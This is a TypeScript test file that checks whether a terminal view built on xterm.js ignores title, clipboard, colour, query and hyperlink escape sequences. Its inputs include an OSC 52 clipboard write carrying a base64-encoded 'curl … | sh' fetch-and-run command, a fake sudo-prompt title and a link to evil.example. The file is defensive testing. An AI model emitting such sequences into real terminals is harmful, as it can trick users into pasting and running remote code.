// The renderer's terminal view shows block output with xterm.js. A block printed a title sequence
// and xterm set the title; colour and report sequences reach it too. The view must ignore titles,
// the clipboard (OSC 52), colours, hyperlinks and every query, and still show the visible text.
// Real xterm.js (it runs without a page until opened).
import type { Terminal } from '@xterm/xterm';
import { describe, expect, it } from 'vitest';
import { createBlockTerminal } from '../../src-renderer/features/terminal/blockTerminal.js';

const write = (terminal: Terminal, data: string) => new Promise<void>((resolve) => terminal.write(data, resolve));
const line = (terminal: Terminal, y: number) => terminal.buffer.active.getLine(y)?.translateToString(true) ?? '';

describe('the block terminal view ignores sequences that would drive it', () => {
  it('no title, clipboard, colour or report: only the visible text', async () => {
    const terminal = createBlockTerminal({ rows: 5, cols: 80, scrollback: 100 });
    const titles: string[] = [];
    const answers: string[] = [];
    terminal.onTitleChange((title) => titles.push(title));
    terminal.onData((data) => answers.push(data));
    terminal.onBinary((data) => answers.push(data));
    await write(
      terminal,
      [
        'a\x1b]0;sudo password needed\x07', // window title
        'b\x1b]2;title\x1b\\', // title, ST-terminated
        'c\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07', // clipboard write
        'd\x1b]52;c;?\x07', // clipboard read
        'e\x1b]11;#0d1117\x07\x1b]10;#0d1117\x07', // text the colour of the background
        'f\x1b]10;?\x07\x1b[21t\x1b[14t', // colour and title/size reports
        'g\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07', // hyperlink with a different target
        '\r\n',
      ].join(''),
    );
    expect(titles).toEqual([]);
    expect(answers).toEqual([]);
    expect(line(terminal, 0)).toBe('abcdefglink');
    terminal.dispose();
  });
});
